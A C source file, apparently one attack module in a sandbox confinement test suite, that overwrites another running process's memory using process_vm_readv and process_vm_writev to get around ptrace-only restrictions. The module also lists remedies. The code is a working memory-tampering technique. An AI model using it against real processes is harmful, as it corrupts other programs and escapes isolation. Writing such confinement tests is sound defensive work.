// SPDX-License-Identifier: MIT
/*
 * Goal:  another process goes on with other data, although ptrace(2) is denied.
 * Means: process_vm_readv(2) to find the place, process_vm_writev(2) to change it: two numbers of
 *        their own, and the process is not even stopped.
 */
#include "attacks/peer-tampering/target.h"

#include <sys/uio.h>

static bool peek(pid_t pid, unsigned long at, char page[4096])
{
	struct iovec here = { page, 4096 }, there = { (void *)at, 4096 };

	return process_vm_readv(pid, &here, 1, &there, 1, 0) == 4096;
}

static enum claim run(const struct brief *b)
{
	static char forged[16] = "not what it was";
	struct iovec here = { forged, sizeof(forged) }, there = { .iov_len = sizeof(forged) };
	unsigned long work;

	attempting(b);
	work = find_work(target(b), peek);
	if (!work)
		return denied("process_vm_readv");
	there.iov_base = (void *)work;
	if (process_vm_writev(target(b), &here, 1, &there, 1, 0) < 0)
		return denied("process_vm_writev");
	return CLAIM_DONE;
}

const struct attack attack = {
	.effect = "another process's memory is changed while it runs",
	.means = "process_vm_writev(2), which lists of ptrace(2) forget",
	.oracle = "bystander",
	.id = "PEER-07",
	.attack_id = "T1055, CWE-269",
	.remedy = "seccomp; Landlock (a domain may not trace its outside); a non-dumpable worker",
	.refs = (const char *const[]){ "process_vm_writev(2)", NULL },
	.run = run,
};
